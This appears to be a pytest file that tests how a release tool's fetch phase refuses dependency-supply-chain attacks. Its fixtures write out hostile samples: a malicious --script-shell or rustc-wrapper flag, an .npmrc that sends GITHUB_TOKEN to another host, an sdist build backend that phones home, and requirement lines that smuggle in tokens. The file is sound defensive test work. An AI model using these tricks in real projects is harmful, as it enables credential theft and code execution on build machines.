"""Attacks on the fetch phase's rules: the exact argv allow-list, what the lock may hold,
which lock the fetcher follows, and the credentials the fetch phase never gets (real npm,
pip and bubblewrap, loopback servers only)."""

from __future__ import annotations

import hashlib
import http.server
import io
import json
import os
import sys
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest

from release.errors import InputError, ReleaseError
from release.stages.fetch_locks import check_npm_lock, check_pip_lock
from release.stages.python_lock import parse_lock
from tests.conftest import Repo
from tests.hermetic import simple_index
from tests.hermetic.simple_index import pip_project
from tests.stages import npm_registry
from tests.stages.npm_registry import Registry
from tests.stages.test_command_fetch import npm_project, registry  # noqa: F401

TOKEN = "ghs_" + "fetchphase0" * 3  # a value the fetch must never see


class Recorder(http.server.BaseHTTPRequestHandler):
    """Answers 404 to everything, keeping each request's path and headers."""

    seen: ClassVar[list[tuple[str, str]]] = []

    def do_GET(self) -> None:
        Recorder.seen.append((self.path, json.dumps(dict(self.headers))))
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def recorder() -> Iterator[int]:
    Recorder.seen.clear()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize(("fetch", "message"), [
    ('["npm", "ci", "--ignore-scripts", "--ignore-scripts=false"]',
     "does not take '--ignore-scripts=false'"),
    ('["npm", "ci", "--ignore-scripts", "--script-shell=./x.sh"]', "does not take"),
    ('["npm", "ci", "--ignore-scripts", "--userconfig", "u.npmrc"]', "does not take"),
    ('["npm", "ci", "--ignore-scripts", "--prefix", "elsewhere"]', "does not take"),
    ('["npm", "ci", "--ignore-scripts", "--git=./x.sh"]', "does not take"),
    ('["cargo", "fetch", "--locked", "--config", "build.rustc-wrapper=\'./evil.sh\'"]',
     "does not take '--config'"),
    ('["cargo", "fetch", "--locked", "-Zunstable-options"]', "does not take"),
    ('["cargo", "fetch", "--locked", "--manifest-path", "x/Cargo.toml"]', "does not take"),
    ('["cargo", "fetch", "--locked", "--lockfile-path", "x.lock"]', "does not take"),
    ('["cargo", "fetch", "--locked", "--target", "../spec.json"]', "is not a target triple"),
    ('["pip", "download", "--require-hashes", "--only-binary=:all:", "-r", "r.txt", "./"]',
     "does not take './'"),
    ('["pip", "download", "--require-hashes", "--only-binary=:all:", "--no-binary=x", '
     '"-r", "r.txt"]', "does not take '--no-binary=x'"),
    ('["pip", "download", "--require-hashes", "--only-binary=:all:"]', "needs -r LOCK"),
    ('["pip", "download", "--require-hashes", "--only-binary=:all:", "-r", "other.txt"]',
     "reads its pins from other.txt"),
])
def test_fetch_argv_outside_the_allow_list_is_refused(repo: Repo, cli, registry: Registry,  # noqa: F811
                                                      fetch: str, message: str) -> None:
    path = npm_project(repo, registry)
    lock = "r.txt" if "pip" in fetch else "Cargo.lock" if "cargo" in fetch else \
        "package-lock.json"
    path.write_text(path.read_text()
                    .replace('fetch: ["npm", "ci", "--ignore-scripts"]', f"fetch: {fetch}")
                    .replace("locks: [package-lock.json]", f"locks: [{lock}]"))
    result = cli("plan", path)
    assert result.code == 2, result.err
    assert message in result.err and "release.yaml:" in result.err, result.err
    assert "Traceback" not in result.err
    assert registry.requests == []


def test_npmrc_cannot_expand_the_job_token_in_the_fetch(
        repo: Repo, cli, registry: Registry, tmp_path: Path, recorder: int,  # noqa: F811
        monkeypatch: pytest.MonkeyPatch) -> None:
    # the stage may use the GitHub token in `run:`, but the fetch phase must not hold it:
    # npm expands ${VAR} in a committed .npmrc and sends it to the host it names
    path = npm_project(repo, registry)
    lock = json.loads((repo.path / "package-lock.json").read_text())
    lock["packages"]["node_modules/tiny"]["resolved"] = f"http://127.0.0.1:{recorder}/t.tgz"
    (repo.path / "package-lock.json").write_text(json.dumps(lock))
    with (repo.path / ".npmrc").open("a") as f:
        f.write(f"//127.0.0.1:{recorder}/:_authToken=${{GITHUB_TOKEN}}\n")
    path.write_text(path.read_text().replace(
        "locks: [package-lock.json]",
        "locks: [package-lock.json]\n    permissions: {contents: read}"))
    repo.commit("an .npmrc that sends the token elsewhere")
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    result = cli("run", path, "--out", tmp_path / "out")
    assert result.code == 1, result.err
    assert not any(TOKEN in headers for _, headers in Recorder.seen), Recorder.seen
    assert TOKEN not in result.err + result.out


def _served(index: simple_index.Index, repo: Repo, lines: str) -> None:
    repo.write("requirements.txt", f"--index-url {index.url}\n{lines}")


def _sdist(port: int) -> bytes:
    """An sdist whose build backend (inside it) phones the index when pip loads it."""
    files = {"evil-1/pyproject.toml": '[build-system]\nrequires = []\n'
             'build-backend = "phone"\nbackend-path = ["."]\n',
             "evil-1/phone.py": "import urllib.request\n"
             f"urllib.request.urlopen('http://127.0.0.1:{port}/pwned')\n",
             "evil-1/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1\n"}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for rel, text in files.items():
            info = tarfile.TarInfo(rel)
            info.size = len(text.encode())
            tf.addfile(info, io.BytesIO(text.encode()))
    return buf.getvalue()


@pytest.mark.parametrize("attack", ["sdist", "token"])
def test_pip_lock_lines_that_build_or_expand_are_refused_before_pip_runs(
        repo: Repo, cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, attack: str) -> None:
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}"
                       f"{os.environ['PATH']}")
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    with simple_index.serve() as index:
        path = pip_project(repo, index, tmp_path / "host")
        if attack == "sdist":  # a committed sdist pinned by its hash: pip would build it
            sdist = _sdist(index.port)
            (repo.path / "evil-1.tar.gz").write_bytes(sdist)
            _served(index, repo, "./evil-1.tar.gz "
                    f"--hash=sha256:{hashlib.sha256(sdist).hexdigest()}\n")
            expected = "requirements.txt:2: error: not a requirement"
        else:  # pip expands ${VAR} in a requirements file
            repo.write("requirements.txt", f"--index-url http://x:${{GITHUB_TOKEN}}@127.0.0.1:"
                       f"{index.port}/simple/\n")
            expected = "requirements.txt:1: error: holds `${`"
        repo.commit(attack)
        result = cli("run", path, "--out", tmp_path / "out")
    assert result.code == 2, result.err  # bad input: the stage fails before pip runs
    assert expected in result.err, result.err
    assert index.requests == []
    assert TOKEN not in result.err


def test_npm_lock_entry_without_integrity_is_refused(repo: Repo, cli, registry: Registry,  # noqa: F811
                                                     tmp_path: Path) -> None:
    path = npm_project(repo, registry)
    lock = json.loads((repo.path / "package-lock.json").read_text())
    del lock["packages"]["node_modules/tiny"]["integrity"]
    (repo.path / "package-lock.json").write_text(json.dumps(lock))
    repo.commit("a lock that pins nothing")
    result = cli("run", path, "--out", tmp_path / "out")
    assert result.code == 2, result.err  # bad input: the stage fails before npm runs
    assert "node_modules/tiny has no sha512 `integrity`" in result.err, result.err
    assert registry.requests == []


def test_a_committed_shrinkwrap_that_is_not_the_lock_is_refused(
        repo: Repo, cli, registry: Registry, tmp_path: Path) -> None:  # noqa: F811
    path = npm_project(repo, registry)
    entry = registry.publish("tiny", "1.0.1", {"package.json": json.dumps(
        {"name": "tiny", "version": "1.0.1", "main": "index.js"}),
        "index.js": "module.exports = 'unpinned';\n"})
    (repo.path / "npm-shrinkwrap.json").write_text(npm_registry.lockfile("app", {"tiny": entry}))
    repo.commit("npm follows the shrinkwrap, not the declared lock")
    result = cli("run", path, "--out", tmp_path / "out")
    assert result.code == 2, result.err
    assert ("npm-shrinkwrap.json: error: npm ci reads its pins from npm-shrinkwrap.json"
            in result.err), result.err
    assert registry.requests == []


HASH = "--hash=sha256:" + "a" * 64


@pytest.mark.parametrize("text", [
    f"--index-url https://pypi.org/simple\n# pinned\ntiny-pkg==1.0.0 {HASH}\n",
    f"tiny-pkg==1.0.0 ; python_version >= '3.8' \\\n    {HASH} \\\n    {HASH}\n",
])
def test_pip_locks_of_pins_by_hash_are_accepted(text: str) -> None:
    check_pip_lock(text, "r.txt")


@pytest.mark.parametrize("line", [
    f"./evil-1.tar.gz {HASH}", f"https://host.example/x-1-py3-none-any.whl {HASH}",
    "-r other.txt", "-c constraints.txt", "-e .", f"--no-binary :all:\ntiny==1 {HASH}",
    "tiny-pkg==1.0.0", f"tiny-pkg>=1.0.0 {HASH}", f"tiny-pkg===./x.tar.gz {HASH}",
    f"tiny-pkg[extra]==1.0.0 {HASH}", "tiny-pkg==1.0.0 --hash=sha256:${X}",
    f"tiny-pkg==1.0.0 --hash=md5:{'a' * 32}",
    f"tiny @ file:///x {HASH}",
    # pip joins a last line ending in a backslash too: it was never checked
    f"tiny-pkg==1.0.0 {HASH}\n./evil-1.tar.gz \\", "-r unchecked.txt \\",
    "--no-binary :all: \\", "requests \\",
])
def test_pip_lock_lines_that_are_not_pins_are_refused(line: str) -> None:
    with pytest.raises(InputError) as caught:
        check_pip_lock(f"--index-url https://pypi.org/simple\n{line}\n", "r.txt")
    assert str(caught.value.location) in ("r.txt:2", "r.txt:3")


def test_a_lock_is_read_as_pip_reads_it() -> None:
    # pip joins lines before it removes comments: a comment line does not continue, a
    # line with a trailing comment ending in a backslash does (and the comment then takes
    # the next line); the lock rules see what pip sees
    pins = parse_lock(f"a==1.0 {HASH} # note \\\n./evil.tar.gz\n# c \\\nb==2.0 {HASH}\n",
                      "r.txt")
    assert {p.name: (p.version, p.line) for p in pins.values()} == {
        "a": ("1.0", 1), "b": ("2.0", 4)}


@pytest.mark.parametrize("line", [
    "--index-url=https://user:S3CRET@pypi.corp.example/simple",
    f"foo @ https://user:S3CRET@pypi.corp.example/foo-1.0-py3-none-any.whl {HASH}",
    f"https://user:S3CRET@pypi.corp.example/foo-1.0-py3-none-any.whl {HASH}",
    f"foo\x1b]0;title\x07==1.0 {HASH}",
])
def test_a_refused_lock_line_shows_no_credential_nor_control_character(line: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_lock(line + "\n", "r.txt")
    shown = caught.value.render()
    assert "S3CRET" not in shown and "\x1b" not in shown and "\x07" not in shown
    assert shown.startswith("r.txt:1: error: ")


SHA512 = "sha512-" + "A" * 86 + "=="


@pytest.mark.parametrize("entry", [
    {"version": "1.0.0", "resolved": "http://host.example/x.tgz", "integrity": "sha512-"},
    {"version": "1.0.0", "resolved": "http://host.example/x.tgz", "integrity": "sha512-AAAA"},
    {"version": "1.0.0", "resolved": "http://host.example/x.tgz", "integrity": SHA512[:-2]},
    # a claim of being inside a bundle, with no enclosing package that bundles
    {"version": "1.0.0", "resolved": "http://host.example/x.tgz", "inBundle": True},
])
def test_npm_integrity_that_pins_nothing_is_refused(entry: dict[str, object]) -> None:
    with pytest.raises(InputError, match="node_modules/x"):
        check_npm_lock(npm_registry.lockfile("app", {"x": entry}), "package-lock.json")  # type: ignore[dict-item]


def test_npm_packages_inside_a_bundling_package_are_pinned_by_it() -> None:
    lock = json.loads(npm_registry.lockfile("app", {"x": {
        "version": "1.0.0", "resolved": "https://host.example/x.tgz", "integrity": SHA512,
        "bundleDependencies": ["y"]}}))
    lock["packages"]["node_modules/x/node_modules/y"] = {"version": "2.0.0", "inBundle": True}
    check_npm_lock(json.dumps(lock), "package-lock.json")
    del lock["packages"]["node_modules/x"]["bundleDependencies"]
    with pytest.raises(InputError, match="node_modules/x/node_modules/y"):
        check_npm_lock(json.dumps(lock), "package-lock.json")


@pytest.mark.parametrize("entry", [
    {"version": "1.0.0", "resolved": "git+https://host.example/x.git#abc"},
    {"version": "1.0.0", "resolved": "file:../x.tgz"},
    {"version": "1.0.0", "resolved": "https://host.example/x.tgz"},
    {"version": "1.0.0", "integrity": "sha1-AAAA"},
])
def test_npm_lock_entries_not_pinned_by_sha512_are_refused(entry: dict[str, str]) -> None:
    with pytest.raises(ReleaseError, match="node_modules/x"):
        check_npm_lock(npm_registry.lockfile("app", {"x": entry}), "package-lock.json")


def test_npm_lock_links_and_workspaces_need_no_integrity() -> None:
    lock = {"lockfileVersion": 3, "packages": {
        "": {"name": "app", "workspaces": ["pkgs/a"]}, "pkgs/a": {"version": "1.0.0"},
        "node_modules/a": {"resolved": "pkgs/a", "link": True}}}
    check_npm_lock(json.dumps(lock), "package-lock.json")
